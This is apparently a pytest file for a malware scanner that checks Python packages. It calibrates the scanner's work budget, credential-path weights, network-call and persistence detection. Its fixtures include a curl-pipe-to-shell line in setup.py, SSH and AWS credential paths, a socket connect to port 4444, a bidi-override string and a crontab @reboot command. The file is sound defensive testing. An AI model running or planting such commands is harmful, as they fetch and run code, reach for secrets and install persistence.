"""Calibrations of the scan on benign code, each beside the malicious shape that
still counts: the budget counted in work, credential places, comments.

(The samples under ``scan_samples/`` hold the calibrations of whole shapes, a
quiet sample and its twin each; these are the details.)
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from guard.analysis.scan import scanner
from guard.analysis.scan import score as scoring
from guard.analysis.scan.hits import Hit
from guard.analysis.scan.python import analyse
from tests.analysis.test_scan import sdist

# --- the budget is work, not time -----------------------------------------------------

_LINE = "value = 1\n"


def _package(tmp_path: Path, modules: int, size: int) -> Path:
    """An sdist whose package holds ``modules`` plain modules of ``size`` bytes each."""
    files: dict[str, str | bytes] = {"setup.py": "from setuptools import setup\nsetup()\n"}
    files["demo/__init__.py"] = ""
    body = _LINE * (size // len(_LINE))
    files.update({f"demo/m{i}.py": body for i in range(modules)})
    return sdist(tmp_path, files)


def test_a_slow_clock_reads_as_much_as_a_fast_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _package(tmp_path, 20, 1000)
    calm = scanner.scan(path, path.name, 5.0, 2.5, 0.8)
    ticks = iter(range(0, 10**9, 1000))  # every look at the clock: 1,000 s later
    monkeypatch.setattr(time, "perf_counter", lambda: float(next(ticks)))
    busy = scanner.scan(path, path.name, 5.0, 2.5, 0.8)
    assert not calm.truncated and not busy.truncated
    assert busy.files_read == calm.files_read == 22


def test_the_budget_buys_a_fixed_amount_of_work(tmp_path: Path) -> None:
    size = 10_000
    path = _package(tmp_path, 10, size)
    per_file = scanner.cost(size, parse=False, functions=False)  # plain: text checks only
    budget = 3.5 * per_file / scanner.WORK_PER_SECOND
    first = scanner.scan(path, path.name, 5.0, 2.5, budget)
    again = scanner.scan(path, path.name, 5.0, 2.5, budget)
    # setup.py and __init__.py, then modules until the work passes 3.5 files' worth
    assert first.truncated and first.files_read == again.files_read == 2 + 4
    note = [f for f in first.findings if f.rule == "scan-incomplete"]
    assert note and "s of analysis work) ran out; 6 of 12" in note[0].message


def test_parsing_costs_more_than_reading() -> None:
    text = scanner.cost(1000, parse=False, functions=False)
    module_level = scanner.cost(1000, parse=True, functions=False)
    full = scanner.cost(1000, parse=True, functions=True)
    assert text < module_level < full


def test_install_time_files_are_read_whatever_the_budget(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "setup.py": "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n" + "# pad\n" * 50_000,
        "demo/__init__.py": "",
        "demo/m.py": "value = 1\n",
    }
    path = sdist(tmp_path, files)
    result = scanner.scan(path, path.name, 5.0, 2.5, 0.0)
    assert result.level == "block"


# --- credential places ------------------------------------------------------------------


def _credentials(source: str) -> list[Hit]:
    hits = analyse(source, parse=False).hits
    return [h for h in hits if h.rule == "credential-access"]


def test_a_vault_domain_in_a_regular_expression_is_no_azure_folder() -> None:
    assert not _credentials('PATTERN = r"https://(\\w+)\\.vault\\.azure\\.net/secrets"\n')
    folder = _credentials('TOKENS = "~/.azure/accessTokens.json"\n')
    assert [h.kind for h in folder] == ["credential"]


def test_ssh_private_keys_weigh_more_than_an_ssh_clients_own_files() -> None:
    (key,) = _credentials('KEY = "~/.ssh/id_ed25519"\n')
    (config,) = _credentials('CONFIG = "~/.ssh/config"\n')
    (folder,) = _credentials('FOLDER = "~/.ssh"\n')
    (keys_in_folder,) = _credentials('KEYS = "~/.ssh/authorized_keys"\n')
    assert key.weight == keys_in_folder.weight == 3.0
    assert config.weight == folder.weight == 1.5
    assert "SSH keys" in key.text and "SSH client files" in config.text


def test_a_trailing_comment_documents_but_a_hash_in_a_string_does_not() -> None:
    (comment,) = _credentials("path = base  # like ~/.aws/credentials\n")
    (string,) = _credentials('path = "a#b" + "~/.aws/credentials"\n')
    assert comment.kind == "documented" and comment.weight == 2.5 * 0.25
    assert string.kind == "credential" and string.weight == 2.5


def test_a_bytes_literal_is_no_docstring() -> None:
    body = '"""\n    %APPDATA%\\Mozilla\\Firefox\\Profiles\n    """\n'
    (data,) = _credentials("def f():\n    b" + body)
    (doc,) = _credentials("def f():\n    r" + body)
    assert data.kind == "credential" and doc.kind == "documented"


# --- many weak library-wide signals -----------------------------------------------------


def _signal(kind: str, weight: float, role: str = "module") -> scoring.Signal:
    return scoring.Signal("credential-access", kind, weight, "pkg/m.py", 1, "", kind, role)


_WEAK = [_signal(kind, 1.0) for kind in ("credential", "decode-blob", "raw-ip-local")]


def test_many_weak_library_signals_stay_under_the_warning_line() -> None:
    combined = scoring.combine(_WEAK, 5.0, 2.5)
    assert combined.level == "clean"
    assert combined.total == scoring.WEAK_SPREAD_CAP == combined.cap


def test_one_strong_library_signal_still_warns_with_the_rest() -> None:
    combined = scoring.combine([*_WEAK, _signal("secret-store", 2.4)], 5.0, 2.5)
    assert combined.level == "warn" and combined.total == scoring.SPREAD_CAP


def test_weak_library_signals_add_to_code_that_runs() -> None:
    runs = _signal("env-secret", 3.0, role="install")
    combined = scoring.combine([*_WEAK, runs], 5.0, 2.5)
    assert combined.total == 5.0 and combined.level == "block"


def test_a_variable_that_names_where_a_secret_is_holds_no_secret() -> None:
    source = (
        "import os\n"
        "TOKEN_PATH = os.getenv('HF_TOKEN_PATH')\n"
        "CREDENTIALS = os.environ['AWS_SHARED_CREDENTIALS_FILE']\n"
        "TOKEN = os.getenv('HF_TOKEN')\n"
    )
    env = [h for h in analyse(source).hits if h.kind == "env-secret"]
    expected = [(4, "reads the secret environment variable HF_TOKEN")]
    assert [(h.line, h.text) for h in env] == expected


def test_a_place_under_an_environments_own_folder_is_not_the_users() -> None:
    own = "export npm_config_userconfig='$NODE_VIRTUAL_ENV/.npmrc'\nT = '__VIRTUAL_ENV__/.netrc'\n"
    assert not _credentials(f"SCRIPT = '''\n{own}'''\n")
    users = "A = '$HOME/.npmrc'\nB = '{home_env}/.netrc'\nC = '{d}/.ssh/id_rsa'\n"
    assert [h.line for h in _credentials(users)] == [1, 2, 3]


# --- what runs at import ---------------------------------------------------------------

_SHELL = (
    "import abc, atexit\n"
    "from urllib.request import urlopen\n"
    "class ShellABC(abc.ABC):\n"
    "    pass\n"
    "class Shell:\n"
    "    def find_code(self, target):\n"
    "        return urlopen(target).read()\n"
)


def _network_weights(source: str) -> list[float]:
    return [h.weight for h in analyse(source).hits if h.kind == "network"]


def test_a_class_registered_with_an_abc_runs_nothing() -> None:
    assert _network_weights(_SHELL + "ShellABC.register(Shell)\n") == [3.0]  # deferred
    assert _network_weights(_SHELL + "atexit.register(Shell)\n") == [5.0]  # runs at exit
    assert _network_weights(_SHELL + "install_hooks(Shell)\n") == [5.0]  # anything may


def test_a_socket_object_nothing_connects_is_no_network_call() -> None:
    catalogue = "import socket, sqlite3\nx = {}\nx['Socket'] = socket.socket()\n"
    catalogue += "x['Connection'] = sqlite3.connect(':memory:')\n"
    assert _network_weights(catalogue) == []
    assert _network_weights(catalogue + "x['Socket'].connect(('203.0.113.1', 4444))\n") == [5.0]


def test_right_to_left_marks_are_text_and_overrides_are_tricks() -> None:
    marks = 'SHORT_DATE_FORMAT = "d\u200f/m\u200f/Y"\n'
    override = 'access = "user\u202e \u2066# admin\u2069 \u2066"\n'
    assert not [h for h in analyse(marks).hits if h.kind == "bidi"]
    assert [h.kind for h in analyse(override).hits if h.kind == "bidi"] == ["bidi"]


def test_the_crontab_command_is_persistence_and_a_schedule_named_crontab_is_not() -> None:
    def autostart(source: str) -> list[int]:
        return [h.line for h in analyse(source, parse=False).hits if h.kind == "autostart-path"]

    assert autostart("from .schedules import crontab, maybe_schedule\n") == []
    assert autostart("os.system(\"(crontab -l; echo '@reboot x') | crontab -\")\n") == [1]
    assert autostart("open('/var/spool/cron/crontabs/root', 'a')\n") == [1]
